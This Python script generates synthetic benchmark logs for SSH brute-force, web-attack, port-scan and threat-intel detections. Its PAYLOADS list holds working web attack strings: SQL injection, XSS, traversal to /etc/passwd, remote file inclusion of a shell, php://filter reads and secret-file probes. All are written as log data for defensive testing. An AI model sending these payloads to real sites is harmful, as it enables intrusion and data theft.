"""Writes the inputs of the detections benchmark: realistic logs, mostly benign, a few attackers.

One generator per shipped detection, each in the format that detection reads:

* ``ssh-brute-force``: an internet-facing bastion's auth.log (RFC 3164 lines): CI jobs and staff
  logging in with keys and passwords (now and then a mistyped one), cron and sudo lines, and about
  5% of the lines from a few dozen guessers (fast and slow password guessing, user enumeration,
  banner grabbers);
* ``web-attacks``: Apache/nginx combined lines of a busy site: readers with query strings, links
  with encoded parameters, some 404s, and about 2% from attackers (SQL injection, XSS, traversal,
  inclusion, secret probing, scanner agents, wordlist 404 floods);
* ``port-scan``: a gateway's kern.log of UFW/iptables packet lines: internet background noise
  (single blocked SYNs from many sources), allowed web traffic, DNS/NTP answers, ACK/RST packets,
  and about 5% of the lines from a few vertical and horizontal scanners;
* ``threat-intel``: Zeek JSON logs (conn, dns, http, files mixed) of an office of 500 clients,
  with an indicator list of 20,000 entries (a Zeek Intel file) of which a handful are hit.

Addresses: benign clients in 10.0.0.0/8, the internet in 198.18.0.0/15 (the benchmarking range),
attackers and listed indicators in the documentation ranges, names under ``.example``. The chance
comes only from ``random.Random(seed)``: the same arguments write the same bytes. Lines are in
time order, ``events`` lines exactly.

    .venv/bin/python bench/generate_detection_events.py ssh-brute-force bench/data/ssh.log --events 1000000
"""

from __future__ import annotations

import argparse
import importlib.util
import json
import random
import sys
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import ModuleType


def shipped_sample(detection: str) -> ModuleType:
    """The script that writes ``detection``'s shipped sample, for its word lists."""
    path = Path(__file__).resolve().parent.parent / "conf" / detection / "sample" / "make_sample.py"
    spec = importlib.util.spec_from_file_location(f"{detection.replace('-', '_')}_sample", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


SEED = 16
START = datetime(2025, 3, 3, tzinfo=timezone.utc)
INDICATORS = 20_000  # entries of the threat-intel list

USER_NAMES = (
    "admin",
    "root",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "pi",
    "guest",
    "ftpuser",
    "git",
    "deploy",
    "support",
    "webmaster",
    "mysql",
    "nagios",
    "hadoop",
    "jenkins",
    "tomcat",
    "www-data",
    "backup",
    "operator",
    "demo",
    "student",
    "dev",
    "minecraft",
    "ansible",
    "ec2-user",
    "centos",
    "debian",
    "kafka",
    "elastic",
    "redis",
    "docker",
    "sysadmin",
)
STAFF = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi")


def internal(rng: random.Random) -> str:
    return f"10.{rng.randrange(0, 64)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}"


def internet(rng: random.Random) -> str:
    return f"198.{rng.randrange(18, 20)}.{rng.randrange(0, 256)}.{rng.randrange(1, 255)}"


def documentation_addresses(rng: random.Random, count: int) -> list[str]:
    """``count`` distinct addresses of 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24."""
    every = [f"{net}.{host}" for net in ("192.0.2", "198.51.100", "203.0.113") for host in range(1, 255)]
    return rng.sample(every, count)


def syslog_time(when: datetime) -> str:
    return f"{when:%b} {when.day:2d} {when:%H:%M:%S}"


def clock(rng: random.Random, mean_gap: float) -> Iterator[datetime]:
    """Event times in order, exponential gaps of ``mean_gap`` seconds on average."""
    when = START
    while True:
        yield when
        when += timedelta(seconds=rng.expovariate(1 / mean_gap))


# ----------------------------------------------------------------------------- ssh-brute-force


def ssh_lines(rng: random.Random) -> Iterator[str]:
    """auth.log of an internet-facing bastion: one burst of lines (one connection) at a time."""
    host = "bastion-01"
    pid = 20_000
    clients = [internal(rng) for _ in range(2_000)]
    guessers = documentation_addresses(rng, 40)
    fast = guessers[:12]  # many guesses a minute
    slow = guessers[12:30]  # one connection now and then, all week long
    grabbers = guessers[30:]  # connect and send nothing
    for when in clock(rng, 0.8):
        stamp = syslog_time(when)
        pid += rng.randint(1, 7)
        sshd = f"{stamp} {host} sshd[{pid}]:"
        port = rng.randint(32768, 60999)
        roll = rng.random()
        if roll < 0.018:  # fast guessing: 3 to 6 wrong passwords in a connection
            ip, user = rng.choice(fast), rng.choice(USER_NAMES)
            invalid = user not in ("root", "admin", "ubuntu")
            if invalid:
                yield f"{sshd} Invalid user {user} from {ip} port {port}"
            what = f"invalid user {user}" if invalid else user
            for _ in range(rng.randint(3, 6)):
                yield f"{sshd} Failed password for {what} from {ip} port {port} ssh2"
            state = "invalid" if invalid else "authenticating"
            yield f"{sshd} Connection closed by {state} user {user} {ip} port {port} [preauth]"
        elif roll < 0.021:  # slow guessing
            ip, user = rng.choice(slow), rng.choice(USER_NAMES)
            yield (
                f"{sshd} pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                f"ruser= rhost={ip}  user={user}"
            )
            yield f"{sshd} Failed password for {user} from {ip} port {port} ssh2"
            yield f"{sshd} Disconnected from authenticating user {user} {ip} port {port} [preauth]"
        elif roll < 0.024:  # banner grabbers
            ip = rng.choice(grabbers)
            if rng.random() < 0.5:
                yield f"{sshd} Did not receive identification string from {ip} port {port}"
            else:
                yield f"{sshd} Connection closed by {ip} port {port} [preauth]"
        elif roll < 0.55:  # a CI job or a staff member logs in and out
            ip = rng.choice(clients)
            user = "deploy" if rng.random() < 0.7 else rng.choice(STAFF)
            method = "publickey" if user == "deploy" or rng.random() < 0.6 else "password"
            if method == "password" and rng.random() < 0.1:
                yield f"{sshd} Failed password for {user} from {ip} port {port} ssh2"
            key = (
                ": ED25519 SHA256:3kQ1dWm2aCkqZVb9l3gG7o8cE1xY2Vtq0nqg3a8dXfE"
                if method == "publickey"
                else ""
            )
            yield f"{sshd} Accepted {method} for {user} from {ip} port {port} ssh2{key}"
            yield f"{sshd} pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"
            yield f"{sshd} Received disconnect from {ip} port {port}:11: disconnected by user"
            yield f"{sshd} Disconnected from user {user} {ip} port {port}"
            yield f"{sshd} pam_unix(sshd:session): session closed for user {user}"
        elif roll < 0.85:
            cron = f"{stamp} {host} CRON[{pid}]: pam_unix(cron:session): session"
            yield f"{cron} opened for user root(uid=0) by (uid=0)"
            yield f"{cron} closed for user root"
        elif roll < 0.95:
            user = rng.choice(STAFF)
            yield (
                f"{stamp} {host} sudo[{pid}]:    {user} : TTY=pts/{rng.randrange(0, 9)} ; PWD=/home/{user} ; "
                "USER=root ; COMMAND=/usr/bin/systemctl status nginx"
            )
        else:
            yield f"{stamp} {host} systemd-logind[812]: New session {pid} of user {rng.choice(STAFF)}."


# ----------------------------------------------------------------------------- web-attacks

WEB_SAMPLE = shipped_sample("web-attacks")
BROWSERS = (*WEB_SAMPLE.BROWSERS, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
PAGES = (
    "/",
    "/index.html",
    "/blog/",
    "/blog/2025/02/select-the-right-union-for-you.html",
    "/products/widgets",
    "/products/widgets?sort=price&order=asc",
    "/products/item?id={n}",
    "/about",
    "/contact",
    "/css/site.css?v={n}",
    "/js/app.js?v={n}",
    "/img/logo.png",
    "/img/products/{n}.jpg",
    "/docs/sql/select-statement",
    "/search?q=select+a+union+representative",
    "/search?q=how+to+use+union+select+in+sql",
    "/search?q=O%27Reilly+or+Manning+books&page={n}",
    "/login?next=https%3A%2F%2Fshop.example.com%2Faccount%3Ftab%3Dorders",
    "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&utm_term=widgets&fbclid=IwAR3xYz{n}",
    "/api/items?filter=%7B%22name%22%3A%22widget%22%2C%22tags%22%3A%5B%22a%22%5D%7D&page={n}",
    "/articles/onload-event-explained",
)
MISSING = ("/favicon.ico", "/apple-touch-icon.png", "/blog/2024/old-post-{n}.html", "/img/products/{n}.webp")
PAYLOADS = (
    "/products.php?id=1%27%20AND%201%3D1--%20-",
    "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176%2C0x71%29--%20-",
    "/products.php?id=1%27%20AND%20SLEEP%285%29--%20-",
    "/products.php?id=-1+union+select+1,@@version,3",
    "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    "/search?q=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E",
    "/redirect?to=javascript:alert(1)",
    "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/static/..%5c..%5c..%5cboot.ini",
    "/index.php?page=http://192.0.2.66/shell.txt?",
    "/index.php?page=php://filter/convert.base64-encode/resource=config.php",
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/backup.zip",
    "/phpinfo.php",
    "/server-status",
)
SCANNER_AGENTS = (
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000123)",
    "Mozilla/5.0 zgrab/0.x",
    "Fuzz Faster U Fool v2.1.0",
)
WORDS = tuple(WEB_SAMPLE.WORDLIST)  # a wordlist scanner's directory names


def web_lines(rng: random.Random) -> Iterator[str]:
    """A busy site's access log, one request a line."""
    clients = [internal(rng) for _ in range(20_000)] + [f"2001:db8:10::{n:x}" for n in range(1, 500)]
    attackers = documentation_addresses(rng, 30)
    for when in clock(rng, 0.35):
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
        n = rng.randrange(1, 5000)
        roll = rng.random()
        if roll < 0.02:
            ip = rng.choice(attackers)
            if rng.random() < 0.5:
                target, status = rng.choice(PAYLOADS), rng.choice((200, 400, 403, 404))
            else:
                target, status = f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}{n}/", 404
            agent = rng.choice(SCANNER_AGENTS) if rng.random() < 0.4 else "Mozilla/5.0 (X11; Linux x86_64)"
        else:
            ip = rng.choice(clients)
            if roll < 0.05:
                target, status = rng.choice(MISSING).format(n=n), 404
            else:
                target, status = rng.choice(PAGES).format(n=n), rng.choice((200, 200, 200, 200, 304))
            agent = rng.choice(BROWSERS)
        size = "-" if status == 304 else str(rng.randrange(150, 90_000))
        ref = "https://www.example.com/" if rng.random() < 0.6 else "-"
        yield f'{ip} - - [{stamp}] "GET {target} HTTP/1.1" {status} {size} "{ref}" "{agent}"'


# ----------------------------------------------------------------------------- port-scan

COMMON_PORTS = (22, 23, 25, 80, 443, 445, 1433, 3306, 3389, 5060, 5900, 6379, 8080, 8443, 9200)


def firewall_lines(rng: random.Random) -> Iterator[str]:
    """kern.log of a gateway running UFW: one packet line at a time."""
    host = "gw-01"
    servers = [f"10.73.140.{n}" for n in range(1, 255)]
    clients = [internal(rng) for _ in range(500)]
    scanners = documentation_addresses(rng, 20)
    uptime = 19_955_416.0
    scan: dict[str, object] = {}
    for when in clock(rng, 0.25):
        uptime += rng.random() / 2
        head = f"{syslog_time(when)} {host} kernel: [{uptime:.6f}]"
        mac = "MAC=de:1c:88:64:10:19:5e:e1:a4:3b:cf:f0:08:00"
        ttl, ident, spt = rng.randrange(30, 64), rng.randrange(0, 65536), rng.randint(1024, 65535)
        roll = rng.random()
        if roll < 0.05:  # a scanner's next probe: a vertical or a horizontal sweep
            if not scan or rng.random() < 0.0005:
                vertical = rng.random() < 0.5
                scan = {"src": rng.choice(scanners), "vertical": vertical, "dst": rng.choice(servers)}
                scan["port"] = rng.choice(COMMON_PORTS)
            if scan["vertical"]:
                dst, dpt = scan["dst"], rng.randint(1, 10_000)
            else:
                dst, dpt = rng.choice(servers), scan["port"]
            src = scan["src"]
            yield (
                f"{head} [UFW BLOCK] IN=eth0 OUT= {mac} SRC={src} DST={dst} LEN=44 TOS=0x00 PREC=0x00 "
                f"TTL={ttl} ID={ident} PROTO=TCP SPT={spt} DPT={dpt} WINDOW=1024 RES=0x00 SYN URGP=0"
            )
        elif roll < 0.45:  # internet background: one blocked probe from anywhere
            yield (
                f"{head} [UFW BLOCK] IN=eth0 OUT= {mac} SRC={internet(rng)} DST={rng.choice(servers)} "
                f"LEN=40 TOS=0x00 PREC=0x00 TTL={ttl} ID={ident} PROTO=TCP SPT={spt} "
                f"DPT={rng.choice(COMMON_PORTS)} WINDOW=65535 RES=0x00 SYN URGP=0"
            )
        elif roll < 0.75:  # visitors of the web servers
            yield (
                f"{head} [UFW ALLOW] IN=eth0 OUT= {mac} SRC={internet(rng)} DST={rng.choice(servers[:8])} "
                f"LEN=60 TOS=0x00 PREC=0x00 TTL={ttl} ID={ident} DF PROTO=TCP SPT={spt} "
                f"DPT={rng.choice((80, 443, 443, 443))} WINDOW=64240 RES=0x00 SYN URGP=0"
            )
        elif roll < 0.9:  # answers to the clients' DNS and NTP queries
            sport = rng.choice((53, 53, 123))
            yield (
                f"{head} [UFW BLOCK] IN=eth0 OUT= {mac} SRC={internet(rng)} DST={rng.choice(clients)} "
                f"LEN=120 TOS=0x00 PREC=0x00 TTL={ttl} ID={ident} PROTO=UDP SPT={sport} DPT={spt} LEN=100"
            )
        else:  # late packets of closed connections
            flags = rng.choice(("ACK FIN", "ACK RST", "RST", "ACK PSH"))
            yield (
                f"{head} [UFW BLOCK] IN=eth0 OUT= {mac} SRC={internet(rng)} DST={rng.choice(servers[:8])} "
                f"LEN=52 TOS=0x00 PREC=0x00 TTL={ttl} ID={ident} DF PROTO=TCP SPT=443 DPT={spt} "
                f"WINDOW=501 RES=0x00 {flags} URGP=0"
            )


# ----------------------------------------------------------------------------- threat-intel


def listed(rng: random.Random) -> dict[str, list[str]]:
    """The indicators of the list, by kind (the same for every size of the logs)."""
    addresses = [f"{net}.{host}" for net in ("192.0.2", "203.0.113") for host in range(1, 255)]
    return {
        "Intel::ADDR": addresses,
        "Intel::DOMAIN": [f"c2-{n}.bad.example" for n in range(INDICATORS // 2)],
        "Intel::URL": [f"drop-{n}.bad.example/payload-{n}.exe" for n in range(INDICATORS // 8)],
        "Intel::FILE_HASH": [
            f"{rng.getrandbits(256):064x}"
            for _ in range(INDICATORS - len(addresses) - INDICATORS // 2 - INDICATORS // 8)
        ],
    }


def write_indicators(path: Path, seed: int = SEED) -> None:
    """The Zeek Intel file the threat-intel conf of the benchmark reads."""
    rng = random.Random(seed)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as out:
        out.write("#fields\tindicator\tindicator_type\tmeta.source\tmeta.desc\n")
        for kind, values in listed(rng).items():
            for value in values:
                out.write(f"{value}\t{kind}\tbench-feed\tgenerated for the benchmark\n")


def zeek_lines(rng: random.Random) -> Iterator[str]:
    """Zeek JSON records of an office network; a few clients now and then reach a listed host."""
    clients = [f"10.0.{n // 250}.{n % 250 + 2}" for n in range(500)]
    sites = {f"site-{n}.example.com": internet(rng) for n in range(3_000)}
    names = list(sites)
    hashes = listed(random.Random(SEED))["Intel::FILE_HASH"]
    infected = clients[:5]
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    dumps = json.JSONEncoder(separators=(",", ":")).encode
    for when in clock(rng, 0.05):
        ts = round(when.timestamp(), 6)
        uid = "C" + "".join(rng.choices(letters, k=17))
        client = rng.choice(clients)
        sport = rng.randint(49152, 65535)
        roll = rng.random()
        if roll < 0.001:  # an infected client: beacon, download, or the dropper's hash
            client = rng.choice(infected)
            n = rng.randrange(0, INDICATORS // 8)
            kind = rng.random()
            if kind < 0.4:
                record = {"_path": "dns", "query": f"beacon.c2-{n}.bad.example", "answers": ["203.0.113.66"]}
            elif kind < 0.7:
                record = {
                    "_path": "conn",
                    "id.resp_h": f"192.0.2.{n % 254 + 1}",
                    "id.resp_p": 443,
                    "proto": "tcp",
                }
            elif kind < 0.9:
                record = {"_path": "http", "host": f"drop-{n}.bad.example", "uri": f"/payload-{n}.exe"}
            else:
                record = {
                    "_path": "files",
                    "sha256": rng.choice(hashes),
                    "md5": f"{rng.getrandbits(128):032x}",
                }
            record = {"ts": ts, "uid": uid, "id.orig_h": client, "id.orig_p": sport, **record}
        else:
            name = rng.choice(names)
            if roll < 0.35:
                record = {
                    "_path": "dns",
                    "ts": ts,
                    "uid": uid,
                    "id.orig_h": client,
                    "id.orig_p": sport,
                    "id.resp_h": "10.0.0.53",
                    "id.resp_p": 53,
                    "proto": "udp",
                    "query": name,
                    "qtype_name": "A",
                    "rcode_name": "NOERROR",
                    "answers": [sites[name]],
                }
            elif roll < 0.6:
                record = {
                    "_path": "http",
                    "ts": ts,
                    "uid": uid,
                    "id.orig_h": client,
                    "id.orig_p": sport,
                    "id.resp_h": sites[name],
                    "id.resp_p": 80,
                    "method": "GET",
                    "host": name,
                    "uri": f"/static/{rng.randrange(0, 1000)}.js",
                    "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                    "status_code": 200,
                }
            else:
                record = {
                    "_path": "conn",
                    "ts": ts,
                    "uid": uid,
                    "id.orig_h": client,
                    "id.orig_p": sport,
                    "id.resp_h": sites[name],
                    "id.resp_p": rng.choice((443, 443, 443, 80)),
                    "proto": "tcp",
                    "conn_state": "SF",
                    "orig_bytes": rng.randint(60, 2000),
                    "resp_bytes": rng.randint(60, 60000),
                    "service": "ssl",
                }
        yield dumps(record)


GENERATORS: dict[str, Callable[[random.Random], Iterator[str]]] = {
    "ssh-brute-force": ssh_lines,
    "web-attacks": web_lines,
    "port-scan": firewall_lines,
    "threat-intel": zeek_lines,
}


def write(detection: str, path: Path, events: int, seed: int = SEED) -> None:
    """``events`` lines of ``detection``'s input into ``path`` (through a temporary file, so an
    interrupted run leaves no partial input behind)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(path.name + ".partial")
    lines = GENERATORS[detection](random.Random(seed))
    with open(partial, "w", encoding="utf-8") as out:
        for _ in range(events):
            out.write(next(lines))
            out.write("\n")
    partial.replace(path)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("detection", choices=sorted(GENERATORS))
    parser.add_argument("output", type=Path)
    parser.add_argument("--events", type=int, default=1_000_000, help="lines to write (default 1000000)")
    parser.add_argument("--seed", type=int, default=SEED)
    parser.add_argument("--indicators", type=Path, help="threat-intel: also write the Zeek Intel list here")
    args = parser.parse_args(argv)
    write(args.detection, args.output, args.events, args.seed)
    if args.indicators:
        write_indicators(args.indicators, args.seed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
